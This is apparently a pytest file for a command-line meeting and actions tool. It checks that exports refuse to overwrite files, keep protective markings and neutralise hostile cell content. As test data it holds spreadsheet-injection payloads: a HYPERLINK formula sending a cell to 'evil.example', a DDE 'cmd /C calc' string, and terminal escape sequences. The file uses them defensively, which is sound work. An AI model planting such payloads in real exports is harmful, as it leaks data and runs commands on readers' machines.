"""The command line's outputs (issue 20, items 1, 4, 8, 9): `-o` can never destroy the workspace, an existing file is
replaced only with --force, a bad destination gets a sentence, exports are safe to open and carry the current
marking, a new sample never inherits an old journal, and a backup copy is never turned into a new workspace."""

import csv
import io
import shutil
import sqlite3

import pytest
from openpyxl import load_workbook

from compstat_desk.cli import main
from compstat_desk.core.actions.tracker import add_action
from compstat_desk.core.store.workspace import open_workspace


def counts(db):
    con = sqlite3.connect(db)
    try:
        return {t: con.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in ("incidents", "meetings", "actions")}
    finally:
        con.close()


@pytest.mark.parametrize("command", [["minutes", "--meeting", "last"], ["pack", "--meeting", "last", "--anyway"]])
@pytest.mark.parametrize("side", ["", "-wal", "-shm"])
def test_minus_o_naming_the_workspace_or_its_journal_is_refused_and_the_workspace_is_untouched(
        sample_copy, capsys, command, side):
    before = counts(sample_copy)
    target = f"{sample_copy}{side}"
    assert main([*command, "--db", str(sample_copy), "-o", target, "--force"]) == 2
    err = capsys.readouterr().err
    assert "nothing was written" in err and "Traceback" not in err
    assert counts(sample_copy) == before
    with open(sample_copy, "rb") as fh:
        assert fh.read(16) == b"SQLite format 3\x00"


def test_an_existing_document_is_replaced_only_with_force(sample_copy, tmp_path, capsys):
    out = tmp_path / "minutes.pdf"
    out.write_bytes(b"the minutes someone already sent")
    assert main(["minutes", "--meeting", "last", "--db", str(sample_copy), "-o", str(out)]) == 2
    assert "--force" in capsys.readouterr().err
    assert out.read_bytes() == b"the minutes someone already sent"
    assert main(["minutes", "--meeting", "last", "--db", str(sample_copy), "-o", str(out), "--force"]) == 0
    assert out.read_bytes().startswith(b"%PDF")
    assert sorted(p.name for p in tmp_path.iterdir() if "minutes" in p.name) == ["minutes.pdf"]  # no .partial


def test_a_missing_output_folder_gets_a_sentence_before_any_work(sample_copy, tmp_path, capsys):
    out = tmp_path / "typo" / "pack.pdf"
    assert main(["pack", "--meeting", "last", "--anyway", "--db", str(sample_copy), "-o", str(out)]) == 2
    err = capsys.readouterr().err
    assert "does not exist" in err and "Traceback" not in err and not out.parent.exists()


def test_an_actions_export_is_safe_to_open_and_carries_the_current_marking(sample_copy, tmp_path, capsys):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click for the figures")'
    with open_workspace(sample_copy) as ws:
        add_action(ws, text=hostile, owner="Insp Ann Lee", unit="KBN", due="2027-01-30")
        add_action(ws, text="@SUM(1+1)\x00 with a NUL and \x1b[2J an escape", owner="Insp Ann Lee", unit="KBN",
                   due="2027-01-30")
    assert main(["marking", "SECRET", "--db", str(sample_copy)]) == 0
    csv_out, xlsx_out = tmp_path / "kbn.csv", tmp_path / "kbn.xlsx"
    assert main(["actions", "export", "--unit", "KBN", "-o", str(csv_out), "--db", str(sample_copy)]) == 0
    assert main(["actions", "export", "--unit", "KBN", "-o", str(xlsx_out), "--db", str(sample_copy)]) == 0
    # The CSV, read with Python's csv module: the marking first, then no cell a spreadsheet would run.
    text = csv_out.read_bytes().decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[0] == ["Protective marking: SECRET"]
    header, rows = lines[1], lines[2:]
    texts = [r[header.index("text")] for r in rows]
    assert "'" + hostile in texts
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r if cell and not cell[0].isdigit())
    assert "\x00" not in text and "\x1b" not in text
    # The XLSX, read with openpyxl: the marking on every sheet, the hostile text a string, not a formula.
    book = load_workbook(xlsx_out)
    for sheet in book.worksheets:
        assert sheet["A1"].value == "Protective marking: SECRET"
        assert sheet.oddHeader.center.text == "SECRET"
    actions = book["Actions"]
    cells = [c for row in actions.iter_rows() for c in row if c.value == hostile]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for row in actions.iter_rows() for c in row)
    # Re-imported as exported, each file is understood (nothing filled in: every row left blank).
    assert main(["actions", "import", str(csv_out), "--db", str(sample_copy)]) == 0
    assert main(["actions", "import", str(xlsx_out), "--db", str(sample_copy)]) == 0
    out = capsys.readouterr().out
    assert out.count("0 changes applied") == 2 and "rows not applied" in out
    # An existing export is replaced only with --force.
    assert main(["actions", "export", "--unit", "KBN", "-o", str(csv_out), "--db", str(sample_copy)]) == 2
    assert main(["actions", "export", "--unit", "KBN", "-o", str(csv_out), "--db", str(sample_copy), "--force"]) == 0


def test_escape_sequences_in_a_text_never_reach_the_terminal(sample_copy, capsys):
    with open_workspace(sample_copy) as ws:
        got = add_action(ws, text="Clear the screen\x1b[2J\x1b]0;pwned\x07 and ring\x00", owner="Ann", unit="KBN",
                         due="2027-01-30")
    assert main(["actions", "history", got.ref, "--db", str(sample_copy)]) == 0
    out = capsys.readouterr().out
    assert "Clear the screen" in out and "\x1b" not in out and "\x07" not in out and "\x00" not in out


def test_after_marking_secret_an_existing_meetings_pack_says_secret_on_every_page(sample_copy, tmp_path):
    from support.pdf import page_texts

    with open_workspace(sample_copy) as ws:  # the sample's meetings were planned under OFFICIAL-SENSITIVE
        assert ws.conn.execute("SELECT count(*) FROM meetings WHERE marking = 'OFFICIAL-SENSITIVE'").fetchone()[0]
    assert main(["marking", "SECRET", "--db", str(sample_copy)]) == 0
    out = tmp_path / "pack.pdf"
    assert main(["pack", "--meeting", "next", "--unit", "KBN", "--anyway", "--db", str(sample_copy), "-o",
                 str(out)]) == 0
    pages = page_texts(out)
    assert len(pages) > 2 and all("SECRET" in page and "OFFICIAL-SENSITIVE" not in page for page in pages)


def test_sample_force_removes_the_old_workspaces_journal_too(sample_copy, tmp_path, capsys):
    db = tmp_path / "w.sqlite"
    shutil.copy(sample_copy, db)
    # An old workspace's write-ahead log, full of an import that was never checkpointed into the file.
    con = sqlite3.connect(db)
    con.execute("PRAGMA wal_autocheckpoint = 0")
    con.execute("PRAGMA journal_mode = WAL")
    con.execute("INSERT INTO settings(key, value) VALUES ('left_in_the_wal', 'old')")
    con.commit()
    shutil.copy(f"{db}-wal", tmp_path / "old-wal")
    con.close()
    shutil.copy(tmp_path / "old-wal", f"{db}-wal")
    assert main(["sample", "--db", str(db), "--force"]) == 0
    con = sqlite3.connect(db)
    try:
        assert con.execute("SELECT count(*) FROM settings WHERE key = 'left_in_the_wal'").fetchone()[0] == 0
        assert con.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    finally:
        con.close()


@pytest.mark.parametrize("content", [b"", b"SQLite format 3\x00" + b"\x00" * 4080])
def test_opening_an_unfinished_backup_copy_never_makes_a_new_workspace_in_its_place(tmp_path, capsys, content):
    backup = tmp_path / "w.backup-20261207-2130-before-m020.sqlite"
    if content:  # the first page of an SQLite file and nothing else, as a kill mid-copy once left
        con = sqlite3.connect(backup)
        con.execute("PRAGMA user_version = 0")
        con.execute("VACUUM")
        con.close()
    else:
        backup.write_bytes(content)
    before = backup.read_bytes()
    assert main(["info", "--db", str(backup)]) == 2
    assert "backup copy" in capsys.readouterr().err
    assert backup.read_bytes() == before
    assert main(["info", "--db", str(tmp_path / "w.backup-20261207-2131-before-m020.sqlite")]) == 2
    assert not (tmp_path / "w.backup-20261207-2131-before-m020.sqlite").exists()


def test_a_folder_given_as_the_workspace_gets_a_sentence(tmp_path, capsys):
    assert main(["info", "--db", str(tmp_path)]) == 2
    assert "is a folder" in capsys.readouterr().err


def test_the_actions_list_as_csv_carries_the_marking_and_no_live_formula(sample_copy, capsys):
    with open_workspace(sample_copy) as ws:
        add_action(ws, text="+cmd|' /C calc'!A0", owner="=1+1", unit="KBN", due="2027-01-30")
    assert main(["actions", "--db", str(sample_copy), "--format", "csv"]) == 0
    lines = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert lines[0] == ["Protective marking: OFFICIAL-SENSITIVE"]
    header = lines[1]
    row = next(r for r in lines[2:] if "calc" in r[header.index("text")])
    assert row[header.index("text")] == "'+cmd|' /C calc'!A0" and row[header.index("owner")] == "'=1+1"


def test_sample_force_refuses_a_workspace_that_is_open_now(tmp_path, capsys):
    import subprocess
    import sys
    import time

    db = tmp_path / "w.sqlite"
    with open_workspace(db):
        pass
    marker = tmp_path / "open"
    holder = subprocess.Popen([sys.executable, "-c", (
        "import sys, time, pathlib\n"
        "from compstat_desk.core.store.workspace import open_workspace\n"
        "ws = open_workspace(sys.argv[1])\n"
        "pathlib.Path(sys.argv[2]).write_text('open')\n"
        "time.sleep(60)\n"), str(db), str(marker)])
    try:
        deadline = time.monotonic() + 30
        while not marker.exists() and time.monotonic() < deadline:
            time.sleep(0.01)
        assert marker.exists()
        assert main(["sample", "--db", str(db), "--force"]) == 2
        assert "is open in compstat-desk now" in capsys.readouterr().err
        assert db.exists()
    finally:
        holder.kill()
        holder.wait()
